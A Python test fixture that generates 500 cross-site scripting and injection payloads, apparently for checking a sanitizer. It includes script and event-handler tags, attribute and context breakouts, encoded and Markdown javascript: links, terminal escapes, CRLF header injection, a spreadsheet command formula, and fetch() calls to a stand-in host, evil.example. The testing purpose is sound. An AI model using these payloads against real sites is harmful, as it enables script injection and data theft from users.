"""Hostile texts: each tries to run a script or to reach another host.

A text that succeeds sets ``window.hit``, opens a dialog, or sends a request to ``evil.example``.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

COUNT = 500
_RUN = ("window.hit=1", "alert(1)", "fetch('//evil.example/f')", "top.hit=1")
_HOST = "//evil.example"
# {js} is a script of one line without double quotes, {host} begins an address
_TAGS = (
    "<script>{js}</script>",
    "<script src={host}/a.js></script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\t>{js}</script\n>",
    "<script/x>{js}</script>",
    "<script type=module>{js}</script>",
    "<script>{js}",
    "<<script>{js}//<</script>",
    "<svg><script>{js}</script></svg>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4= /></svg>",
    "<svg><a xlink:href=javascript:{js}><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math href=javascript:{js}>x</math>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img src=x onerror='{js}'>",
    "<img src=x oneonerrorrror={js}>",
    "<img src={host}/i.png>",
    "<img srcset='{host}/s.png 1x'>",
    "<image src={host}/j.png>",
    "<img/src=`x`onerror={js}>",
    "<body onload={js}>",
    "<body background={host}/b.png>",
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<iframe src={host}/frame></iframe>",
    "<object data=javascript:{js}></object>",
    "<object data={host}/o></object>",
    "<embed src=javascript:{js}>",
    "<embed src={host}/e>",
    "<link rel=stylesheet href={host}/l.css>",
    "<link rel=prefetch href={host}/p>",
    "<link rel=icon href={host}/k.ico>",
    "<style>@import '{host}/s.css';</style>",
    "<style>body{{background:url({host}/u.png)}}</style>",
    "<div style=background:url({host}/d.png)>",
    "<div style=width:expression({js})>",
    "<base href={host}/>",
    "<meta http-equiv=refresh content='0;url={host}/m'>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<form action={host}/form><input type=submit autofocus></form>",
    "<input autofocus onfocus={js}>",
    "<input type=image src={host}/in.png>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<button formaction=javascript:{js} autofocus>x</button>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<video src={host}/v autoplay poster={host}/vp></video>",
    "<audio src=x onerror={js}>",
    "<audio src={host}/au autoplay></audio>",
    "<track src={host}/t default>",
    "<marquee onstart={js}>x</marquee>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "<a href={host} ping={host}/ping>x</a>",
    "<a href=x style=animation-name:x onanimationstart={js}>x</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<title></title><script>{js}</script>",
    "<x onclick={js} tabindex=1 autofocus onfocus={js}>x</x>",
    "<portal src={host}/portal>",
    "<div popover onbeforetoggle={js}>x</div>",
    "<div hx-get='{host}/hx' hx-trigger=load>x</div>",
    "<div data-hx-get='{host}/hx' data-hx-trigger=load>x</div>",
    "<div hx-on:load='{js}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-sse:connect='{host}/sse'>x</div>",
    "<div hx-vals='js:{{x:{js}}}' hx-get=/ hx-trigger=load>x</div>",
    "<copy-text value=x onfocus={js} autofocus tabindex=0></copy-text>",
)
_BREAKS = (
    '">{tag}',
    "'>{tag}",
    "-->{tag}",
    "</title>{tag}",
    "</textarea>{tag}",
    "</script>{tag}",
    "]]>{tag}",
    "</style></noscript></template></select></option></td></tr></table>{tag}",
)
_BARE = (
    '" onfocus={js} autofocus x="',
    "' onmouseover={js} x='",
    "x onerror={js}",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "\x01javascript:{js}",
    " javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "https:{host}/plain",
    "{{{{{js}}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "{{% raw %}}{js}{{% endraw %}}",
    "{{{{ ''.__class__ }}}}<script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\ufeff<script>{js}</script>",
    "<\u0000script>{js}</script>",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\u202e<script>{js}</script>",
    "\x1b]8;;javascript:{js}\x07link\x1b]8;;\x07",
    "\x1b[31m<script>{js}</script>\x1b[0m",
    "\x1b]0;<script>{js}</script>\x07",
    "\x1b[<img src=x onerror={js}>m",
    "[x](javascript:{js})",
    "[x](JAVASCRIPT:{js})",
    "[x](&#106;avascript:{js})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "![x]({host}/md.png)",
    "![x](https:{host}/md.png)",
    '![x](x"onerror={js})',
    "[x]: javascript:{js}\n\n[x]",
    "<javascript:{js}>",
    "```<script>{js}</script>",
    "```html\n<script>{js}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={js}> |",
    "# <img src=x onerror={js}>",
    "[![x]({host}/b.png)](javascript:{js})",
    "<!--[if IE]><script>{js}</script><![endif]-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml-stylesheet href=javascript:{js}?>",
    "=cmd|' /C calc'!A0<script>{js}</script>",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>{js}</script>",
    "data: x\n\nevent: end\ndata: <script>{js}</script>\n\n",
    'https://example.org/"onmouseover={js}//',
    "https://example.org/<script>{js}</script>",
    "https://user:pass@evil.example/'><script>{js}</script>",
)


def payloads() -> list[str]:
    """``COUNT`` different texts, the same each time, mixed so that any part has all kinds."""
    plain = list(dict.fromkeys(_plain()))
    framed = [text for text in dict.fromkeys(_framed()) if text not in set(plain)]
    missing = COUNT - len(plain)
    assert 0 < missing <= len(framed)
    texts = plain + [framed[at * len(framed) // missing] for at in range(missing)]
    step = 7919  # a prime, so that every text comes once, and similar texts are far apart
    return [texts[at * step % COUNT] for at in range(COUNT)]


def _plain() -> Iterator[str]:
    scripts = itertools.cycle(_RUN)
    for template in _BARE:
        for js in _RUN[:3]:
            yield template.format(js=js, host=_HOST)
    for template in _TAGS:
        yield template.format(js=next(scripts), host=_HOST)


def _framed() -> Iterator[str]:
    scripts = itertools.cycle(_RUN)
    for frame, template in itertools.product(_BREAKS, _TAGS):
        yield frame.format(tag=template.format(js=next(scripts), host=_HOST))
